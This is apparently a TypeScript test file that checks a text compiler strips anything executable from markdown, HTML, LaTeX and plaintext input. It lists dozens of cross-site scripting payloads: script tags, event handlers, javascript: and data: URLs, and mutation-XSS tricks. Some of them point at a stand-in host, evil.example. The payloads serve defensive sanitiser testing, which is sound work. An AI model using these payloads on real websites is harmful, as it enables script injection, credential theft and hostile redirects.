import type { Rich, RichNode } from '@cs/contract/rich';
import { describe, expect, it } from 'vitest';
import { compileText, type Encoding, mathsRenderer } from './compileText.ts';
import type { MarkupContext } from './context.ts';
import { isSafeAddress } from './links.ts';

const maths = mathsRenderer();
const context: MarkupContext = {
  report: () => {},
  term: () => undefined,
  figure: () => undefined,
  picture: src => ({ src }),
  link: () => {},
  headingId: words => words,
  maths: (tex, display) => maths(tex, display).formula,
};

const ENCODINGS: readonly Encoding[] = ['markdown', 'html', 'latex', 'plaintext'];

/** What of a compiled text could act: elements, attributes and addresses that no text needs. */
function acts(node: RichNode): string[] {
  if (typeof node === 'string' || !('tag' in node)) return 'html' in Object(node) ? actsInMaths(node as never) : [];
  const found: string[] = [];
  if (!SAFE_TAGS.has(node.tag)) found.push(node.tag);
  for (const [name, value] of Object.entries(node.attrs ?? {})) {
    if (!SAFE_ATTRIBUTES.has(name)) found.push(name);
    if ((name === 'href' || name === 'src' || name === 'cite') && !isSafeAddress(value)) found.push(`${name}=${value}`);
    if (name === 'src' && /^\s*data:/i.test(value)) found.push(value);
  }
  return [...found, ...(node.children ?? []).flatMap(acts)];
}
/** Tags alone: the text between them is escaped. */
const actsInMaths = ({ html }: { html: string }): string[] =>
  (html.match(/<[a-z][^>]*>/gi) ?? []).filter(tag =>
    /^<(script|a|img|iframe)\b|\s(?:on\w+|data-on\w*|href|src|id)=|javascript:|url\(/i.test(tag),
  );

const SAFE_TAGS = new Set(
  (
    'a abbr b blockquote br caption cite code col colgroup dd del details dfn div dl dt em figcaption figure h1 h2 h3 h4 ' +
    'h5 h6 hr i img ins kbd li mark ol p pre q s samp section small span strike strong sub summary sup table tbody td ' +
    'tfoot th thead tr tt u ul var'
  ).split(' '),
);
const SAFE_ATTRIBUTES = new Set(
  (
    'class id title lang dir aria-label aria-describedby aria-labelledby aria-hidden href target rel cite span open src ' +
    'alt width height loading value start type reversed colspan rowspan headers scope'
  ).split(' '),
);

describe('a hostile text cannot act, whatever its encoding', () => {
  it.each([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    '<img src="x" OnErRoR="alert(1)">',
    '<img src=`x`onerror=alert(1)>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img src="data:text/html,<script>alert(1)</script>">',
    '<img srcset="x 1x" src="javascript:alert(1)">',
    '<img name=getElementById id=documentElement src=x>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="\u0001javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="blob:https://site.example/1">x</a>',
    '<a href=x ping="https://evil.example">x</a>',
    '<a href=x target=_top>x</a>',
    '[x](javascript:alert(1))',
    '[x](<java script:alert(1)>)',
    '![x](data:text/html,1)',
    '<javascript:alert(1)>',
    '[x]: javascript:alert(1)\n\n[x]',
    '\\link{x}{javascript:alert(1)}',
    '\\link{x}{\u0001javascript:alert(1)}',
    '\\link{x}{java\u000bscript:alert(1)}',
    '\\link{<img src=x onerror=alert(1)>}{/x}',
    '<svg onload=alert(1)><circle/></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<style>body{display:none}</style>',
    '<p style="position:fixed;inset:0">x</p>',
    '<link rel=stylesheet href=//evil.example/x.css>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<template><script>alert(1)</script></template>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<textarea><img src=x onerror=alert(1)></textarea>',
    '<video src=x onloadstart=alert(1)></video><audio src=x autoplay></audio>',
    '<details ontoggle=alert(1) open>x</details>',
    '<table background="javascript:alert(1)"><td background=x>y</td></table>',
    '<body onload=alert(1)><html manifest=x>',
    '<x-custom onclick=alert(1)>x</x-custom>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '<?xml-stylesheet href="javascript:alert(1)"?>',
    '<p id=x\u0000 onclick=alert(1)>y</p>',
    '$\\href{javascript:alert(1)}{x}$',
    '$\\url{javascript:alert(1)}$',
    '$\\includegraphics{https://evil.example/x.png}$',
    '$\\htmlStyle{background:url(https://evil.example)}{x}$',
    '$\\htmlClass{toast}{x}\\htmlId{root}{x}$',
    '$\\htmlData{a=1, onclick=alert(1)}{x}$',
    '<span title="$<img src=x onerror=alert(1)>$">x</span>',
    '`<script>alert(1)</script>`\n\n```html\n<img src=x onerror=alert(1)>\n```',
  ])('%s', text => {
    for (const encoding of ENCODINGS) {
      const rich: Rich = compileText(text, encoding, context);
      expect(rich.flatMap(acts)).toEqual([]);
    }
  });

  it.each(['root', 'main', 'page-data', '__reactRouterVersion', '__proto__', '-x', 'a b'])(
    'it may not take the name %s for a place of its own',
    id => {
      expect(JSON.stringify(compileText(`<p id="${id}">x</p>`, 'html', context))).not.toContain('"id"');
    },
  );

  it('it may name a place that a link can lead to', () => {
    expect(JSON.stringify(compileText('<p id="step-1">x</p>', 'markdown', context))).toContain('"id":"step-1"');
  });
});
